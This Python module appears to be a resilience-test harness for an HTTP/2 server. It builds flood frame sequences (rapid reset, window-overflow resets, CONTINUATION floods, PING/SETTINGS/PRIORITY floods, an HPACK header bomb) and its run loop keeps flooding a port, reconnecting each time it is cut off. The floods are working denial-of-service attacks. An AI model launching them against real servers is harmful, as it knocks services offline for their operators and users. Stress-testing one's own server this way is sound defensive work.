"""Frames that are each allowed, far too many of them."""

import time

from wire import (
    CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS, PING, PRIORITY, RST_STREAM, SETTINGS, WINDOW_UPDATE, Peer, begin,
    call, field, frame, integer, text,
)


def rapid_reset(turn):
    stream = 2 * turn + 1
    return begin(stream) + frame(RST_STREAM, stream=stream, payload=b"\0\0\0\x08")


def made_you_reset(turn):
    # The window overflows, so that it is the server who resets.
    stream = 2 * turn + 1
    return begin(stream) + frame(WINDOW_UPDATE, stream=stream, payload=b"\x7f\xff\xff\xff")


def continuations(turn):
    first = frame(HEADERS, END_STREAM, 1, call("Hold")) if turn == 0 else b""
    return first + frame(CONTINUATION, 0, 1, field("x", "y"))


def settings(turn):
    return frame(SETTINGS)


def pings(turn):
    return frame(PING, payload=b"\0" * 8)


def priorities(turn):
    return frame(PRIORITY, stream=2 * turn + 1, payload=b"\0\0\0\0\x0f")


def window_updates(turn):
    return (begin(1) if turn == 0 else b"") + frame(WINDOW_UPDATE, payload=b"\0\0\0\x01")


def empty_data(turn):
    return (begin(1) if turn == 0 else b"") + frame(DATA, stream=1)


def stale_headers(turn):
    # On a stream that is closed; the first two lines open it and end it.
    first = begin(1) + frame(RST_STREAM, stream=1, payload=b"\0\0\0\x08") if turn == 0 else b""
    return first + begin(1)


def header_bomb(turn):
    # One entry of the table, and a byte for each mention of it: 8 KiB that stand for 24 MB.
    entry = b"\x40" + text("bomb") + text("b" * 3000)
    return frame(HEADERS, END_HEADERS | END_STREAM, 2 * turn + 1, call("Hold") + entry + b"\xbe" * 8000)


def violations(turn):
    return frame(DATA, stream=2 * turn + 1, payload=b"\0")


FLOODS = {
    name: globals()[name]
    for name in [
        "rapid_reset", "made_you_reset", "continuations", "settings", "pings", "priorities", "window_updates", "empty_data",
        "stale_headers", "header_bomb", "violations",
    ]
}


def run(make, port, authority, until, tally):
    """Floods until cut off, and comes back as soon as it has been."""
    while time.monotonic() < until:
        try:
            peer, turn, enough = Peer(port, authority), 0, time.monotonic() + 3
        except OSError:
            # Kept out after the last time.
            tally.refused += 1
            time.sleep(0.02)
            continue
        while not peer.is_over and time.monotonic() < enough:
            peer.send(b"".join(make(turn + step) for step in range(50)))
            turn += 50
        peer.linger(time.monotonic() + 2)
        if peer.is_welcome:
            tally.add(peer.end, frames=turn)
        else:
            tally.refused += 1
        peer.close()
